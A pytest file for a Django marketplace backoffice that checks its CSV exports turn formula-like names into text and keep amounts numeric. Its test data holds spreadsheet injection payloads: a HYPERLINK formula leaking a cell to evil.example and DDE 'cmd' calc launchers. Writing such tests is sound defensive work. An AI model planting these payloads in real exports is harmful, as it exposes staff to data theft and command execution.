"""CSV exports opened in Excel or LibreOffice: a name typed by a customer or an
applicant (`=HYPERLINK(…)`, `=cmd|' /C calc'!A0`) is a text cell, never a formula,
and amounts stay numbers."""
import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_model

from backoffice.csv_export import csv_download
from plugins.gift_cards import ledger
from tests import factories
from tests.integration.helpers import place_order
from tests.plugins.gift_cards.conftest import make_card
from tests.plugins.payments.conftest import fake_stripe, paid_order  # noqa: F401  fixtures

pytestmark = pytest.mark.django_db
Partner = get_model("partner", "Partner")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Clic")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
SHOP_NAME = "=cmd|' /C calc'!A0"


def read(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_formula_cells_become_text_and_numbers_stay_numbers():
    rows = [[value] for value in FORMULAS] + [
        [Decimal("-5.00")], [-5], [2.5], ["-5,00"], ["-1 234,50"], ["+12"], ["12,40"], ["Marie"], [""]]
    cells = [row[0] for row in read(csv_download("x.csv", ["Valeur"], rows))[1:]]
    assert cells[:len(FORMULAS)] == ["'" + value for value in FORMULAS]
    assert cells[len(FORMULAS):] == ["-5.00", "-5", "2.5", "-5,00", "-1 234,50", "+12", "12,40", "Marie", ""]


def test_the_orders_export_keeps_a_customers_formula_as_text(client, town, team):
    for first_name in FORMULAS[:2]:
        place_order(Client(), [(town["comte"], 1)], first_name=first_name, last_name="Dupont")
    client.force_login(team["alice"])
    rows = read(client.get(reverse("backoffice_orders_export"), {"donnees_personnelles": "on"}))
    assert sorted(row[3] for row in rows[1:]) == sorted("'" + name + " Dupont" for name in FORMULAS[:2])
    assert all(row[9] == "12,40" for row in rows[1:])


def test_the_settlement_export_keeps_a_shop_name_as_text(client, town, team, paid_order):  # noqa: F811
    Partner.objects.filter(pk=town["cheese"].partner.pk).update(name=SHOP_NAME)
    client.force_login(team["staff"])
    rows = read(client.get(reverse("payments_settlement_export")))
    assert ["'" + SHOP_NAME, "1", "12,40"] == [rows[1][0], rows[1][3], rows[1][4]]


def test_the_gift_card_export_keeps_a_shop_name_as_text(client, town, team):
    Partner.objects.filter(pk=town["cheese"].partner.pk).update(name=SHOP_NAME)
    ledger.spend(make_card(amount="50.00"), "12.50", Partner.objects.get(pk=town["cheese"].partner.pk))
    client.force_login(team["staff"])
    rows = read(client.get(reverse("gift_cards_report_export")))
    today = timezone.localdate()
    assert rows[1] == ["'" + SHOP_NAME, f"{today.replace(day=1):%d/%m/%Y}", f"{today:%d/%m/%Y}", "1", "0,00",
                       "12,50", "0,00", "12,50"]


def test_the_import_template_keeps_a_category_name_as_text(client, town, team):
    factories.category("@SUM(1+1)*cmd|' /C calc'!A0").move(factories.category("Fromages"), "left")
    client.force_login(team["alice"])
    rows = read(client.get(reverse("backoffice_import_template")))
    assert rows[1][2] == "'@SUM(1+1)*cmd|' /C calc'!A0" and rows[1][3] == "5,90"
